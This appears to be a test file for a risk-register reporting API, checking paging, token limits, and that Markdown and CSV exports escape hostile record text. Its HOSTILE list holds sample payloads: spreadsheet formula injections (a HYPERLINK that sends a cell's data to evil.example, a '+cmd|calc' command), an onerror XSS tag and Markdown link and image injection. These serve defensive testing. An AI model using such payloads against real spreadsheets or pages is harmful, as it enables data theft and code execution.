@@ -1,0 +1,146 @@
+/** Reports of many and of hostile records: what fits an answer, and what their texts cannot do. */
+import { parse } from 'csv-parse/sync';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { tokensOf } from '../../bench/tokens.ts';
+import { startRegister, type TestRegister } from '../support/register.ts';
+import { type Ask, digestOfAnswer, rowsOf, textOfReport, wholeReport } from '../support/reports.ts';
+
+const RISKS = 1_200;
+/** Texts that are a formula, markup, or many tokens, where a careless writer lets them. */
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  '+1+cmd|calc',
+  '-2+3',
+  '@SUM(A1)',
+  'a|b|c',
+  'two\nlines\n| and | a | row |',
+  '`code` and [a link](https://evil.example) and <img src=x onerror=alert(1)>',
+  '![picture](https://evil.example/p.png) www.evil.example &lt;b&gt; \\| **bold** ~~gone~~',
+  'quote " and, comma',
+  '漢字'.repeat(60),
+  '🙂🧯'.repeat(40),
+  'Zx9'.repeat(60),
+];
+
+const test = suite<{ register: TestRegister; ask: Ask }>('long reports');
+
+test.before(async (context) => {
+  const register = await startRegister();
+  const { organizationId: organization_id } = register;
+  const rows = Array.from({ length: RISKS }, (_, index) => ({
+    reference_id: `R-${index}`,
+    name: `${index} ${HOSTILE[index % HOSTILE.length]}`.replace(/\s+/g, ' ').slice(0, 180),
+    category: HOSTILE[index % HOSTILE.length]!.replace(/\s+/g, ' '),
+    description: HOSTILE[(index + 1) % HOSTILE.length]!,
+    inherent_likelihood: (index % 5) + 1,
+    inherent_impact: (index % 4) + 1,
+  }));
+  for (let first = 0; first < RISKS; first += 200) {
+    const imported = await register.call('importRecords', {
+      organization_id,
+      type: 'RISK',
+      rows: rows.slice(first, first + 200),
+    });
+    assert.is(imported.created, 200, JSON.stringify(imported).slice(0, 500));
+  }
+  const ask: Ask = async (input) => {
+    const answer = await register.call('getReport', { organization_id, ...input });
+    assert.is(answer.error, undefined, JSON.stringify(answer.error));
+    return answer;
+  };
+  Object.assign(context, { register, ask });
+});
+test.after(({ register }) => register.stop());
+
+test('the pages of JSON hold every row once, and together have the digest', async ({ ask }) => {
+  const report = await wholeReport(ask, { type: 'RISK_REGISTER' });
+  assert.ok(report.pages > 3);
+  const ids = rowsOf(report, 'risks').map(({ id }) => id);
+  assert.equal([ids.length, new Set(ids).size], [RISKS, RISKS]);
+  assert.is(digestOfAnswer(report), report.digest);
+});
+
+test('a page of Markdown is at most 20,000 tokens and says what is left out', async ({ ask }) => {
+  const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER' });
+  assert.ok(pages.length > 1);
+  let rows = 0;
+  for (const [index, page] of pages.entries()) {
+    const tokens = tokensOf(page);
+    assert.ok(tokens <= 20_000, `${tokens} tokens`);
+    assert.is(/^Left out: /m.test(page), index < pages.length - 1);
+    rows += page.split('\n').filter((line) => line.startsWith('| R-')).length;
+  }
+  assert.is(rows, RISKS);
+  assert.ok(tokensOf(pages[0]!) > 5_000, 'a page is not wasted');
+});
+
+test('what is in the register stays data in Markdown', async ({ ask }) => {
+  const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER' });
+  const rows = pages.flatMap((page) => page.split('\n').filter((line) => line.startsWith('| R-')));
+  const columns = rows.map((row) => row.replace(/\\[\s\S]/g, '').split('|').length);
+  assert.is(new Set(columns.slice(0, 100)).size, 1);
+  for (const row of rows) {
+    const bare = row.replace(/\\[\s\S]/g, '');
+    assert.not.match(bare, /[`[\]<>*~]|:\/\/|www\.\w/i, row);
+  }
+});
+
+test('CSV is one table that spreadsheets take for texts', async ({ ask }) => {
+  const { pages } = await textOfReport(ask, { type: 'RISK_REGISTER', format: 'CSV' });
+  assert.ok(pages.length > 1);
+  const lines = parse(pages.join(''), { columns: true }) as Record<string, string>[];
+  const risks = lines.filter(({ section }) => section === 'risks');
+  assert.is(risks.length, RISKS);
+  assert.is(lines.filter(({ section }) => section === 'matrix').length, 25);
+  for (const line of lines) for (const cell of Object.values(line)) assert.not.match(cell, /^[=+\-@\t\r]/);
+  const categories = new Set(risks.map(({ category }) => category));
+  for (const text of HOSTILE.map((one) => one.replace(/\s+/g, ' '))) {
+    assert.ok(categories.has(/^[=+\-@]/.test(text) ? `'${text}` : text), text);
+  }
+});
+
+test('a cursor is of one report, one format and one account', async ({ register, ask }) => {
+  const { organizationId: organization_id } = register;
+  const { next_cursor: cursor } = (await ask({ type: 'RISK_REGISTER' })) as { next_cursor: string };
+  for (const other of [
+    { type: 'VENDORS' },
+    { type: 'RISK_REGISTER', format: 'CSV' },
+    { type: 'RISK_REGISTER', owner_id: 'ME' },
+  ]) {
+    const { error } = await register.call('getReport', { organization_id, ...other, cursor });
+    assert.equal([(error as { code: string }).code, (error as { field: string }).field], ['invalid_input', 'cursor']);
+  }
+});
+
+test('a report goes on from its own position, whatever is written meanwhile', async ({ register, ask }) => {
+  const { organizationId: organization_id } = register;
+  const before = await wholeReport(ask, { type: 'RISK_REGISTER' });
+  let asked = 0;
+  const during = await wholeReport(
+    async (input) => {
+      if (asked++ === 1)
+        await register.call('addRisk', { organization_id, name: 'Late', inherent_likelihood: 5, inherent_impact: 5 });
+      return ask(input);
+    },
+    { type: 'RISK_REGISTER' },
+  );
+  assert.is(during.digest, before.digest);
+  assert.equal(during.data, before.data);
+  const after = await wholeReport(ask, { type: 'RISK_REGISTER' });
+  assert.is(rowsOf(after, 'risks').length, RISKS + 1);
+  assert.is.not(after.digest, before.digest);
+});
+
+test('a record that alone is too large is cut, and says so', async ({ register, ask }) => {
+  const { organizationId: organization_id } = register;
+  const long = 'words and words '.repeat(600);
+  const texts = { root_cause: long, corrective_action: long, effectiveness_check: long };
+  await register.call('addNonconformity', { organization_id, description: long, ...texts });
+  const answer = (await ask({ type: 'NONCONFORMITIES', format: 'JSON' })) as object;
+  assert.ok(JSON.stringify(answer).length <= 60_000);
+  const [row] = rowsOf((answer as { report: never }).report, 'nonconformities');
+  assert.is(row!.truncated, true);
+});
+
+test.run();
